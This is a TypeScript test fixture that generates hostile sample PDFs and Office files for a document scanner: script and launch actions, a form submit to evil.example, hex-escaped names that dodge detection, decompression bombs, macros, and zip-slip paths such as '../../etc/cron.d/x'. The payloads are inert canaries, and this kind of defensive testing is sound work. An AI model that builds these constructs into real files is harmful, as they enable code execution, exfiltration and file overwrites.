import { randomBytes } from 'node:crypto';
import { strToU8 } from 'fflate';
import { docxOf, objectStream, pageTree, pdfOf, streamOf } from '../sample-files.ts';
import { CANARY, type HostileFile } from './hostile-file.ts';

const acts: Readonly<Record<string, string>> = {
  script: `<< /S /JavaScript /JS (${CANARY.replaceAll(/[()]/g, '')}) >>`,
  'a program': '<< /S /Launch /F (cmd.exe) >>',
  'a form that is sent': '<< /S /SubmitForm /F (http://evil.example) >>',
  'a form that is filled': '<< /S /ImportData /F (x.fdf) >>',
  'a file in it': '<< /Type /EmbeddedFile >>',
  'a file pinned to it': '<< /Subtype /FileAttachment >>',
  'a form of code': '<< /XFA [] >>',
  'a film of code': '<< /Subtype /RichMedia >>',
};

/** `/JavaScript` as `/J#61vaScript`: the second letter of each name by its number. */
const hidden = (text: string): string =>
  text.replaceAll(
    /\/([A-Z])([a-z])/g,
    (_all, first: string, second: string) => `/${first}#${second.charCodeAt(0).toString(16)}`,
  );

const pdf = (what: string, make: () => Uint8Array): HostileFile => ({ what: `PDF: ${what}`, make });
const office = (what: string, entries: () => Record<string, Uint8Array>): HostileFile => ({
  what: `office: ${what}`,
  make: () => docxOf(entries()),
});

const code = strToU8('x');

/** Documents with code, with files inside, that swell, or that climb out of where they are unpacked. */
export const documents: readonly HostileFile[] = [
  ...Object.entries(acts).flatMap(([what, act]) => [
    pdf(what, () => pdfOf([...pageTree(1), act])),
    pdf(`${what}, its letters hidden`, () => pdfOf([...pageTree(1), hidden(act)])),
    pdf(`${what}, packed away`, () => pdfOf([...pageTree(1), objectStream([act])])),
  ]),
  pdf('a page behind its first line', () => Buffer.from(`%PDF-1.7\n<html><script>${CANARY}</script></html>`)),
  pdf('noise behind its first line', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(9_000)])),
  pdf('locked', () => pdfOf(pageTree(1), 'trailer\n<< /Root 1 0 R /Encrypt 8 0 R >>\n%%EOF')),
  pdf('without pages', () => pdfOf(['<< /Type /Catalog >>'])),
  pdf('that unpacks to too much', () =>
    pdfOf([...pageTree(1), objectStream([' '.repeat(140 * 1024 * 1024)])]),
  ),
  pdf('packed in another way', () => pdfOf([...pageTree(1), streamOf('x', '/First 0 /Filter [/LZWDecode]')])),
  office('macros', () => ({ 'word/vbaProject.bin': code })),
  office('data of macros', () => ({ 'word/vbaData.xml': code })),
  office('macros of old Excel', () => ({ 'xl/macrosheets/sheet1.xml': code })),
  office('a control', () => ({ 'word/activeX/activeX1.xml': code })),
  office('a packed object', () => ({ 'word/embeddings/oleObject1.bin': code })),
  office('a program in it', () => ({ 'word/embeddings/setup.exe': code })),
  office('that climbs out', () => ({ '../../etc/cron.d/x': code })),
  office('that climbs out of Windows', () => ({ '..\\..\\x.bat': code })),
  office('from the root', () => ({ '/etc/passwd': code })),
  office('of another drive', () => ({ 'C:\\x.bat': code })),
  office('a bomb', () => ({ 'word/media/a.xml': new Uint8Array(40 * 1024 * 1024) })),
  office('2,000 entries', () =>
    Object.fromEntries(
      Array.from({ length: 2_000 }, (_, index) => [`word/p${String(index)}.xml`, new Uint8Array(0)]),
    ),
  ),
  { what: 'office: cut short', make: () => docxOf().subarray(0, -30) },
];
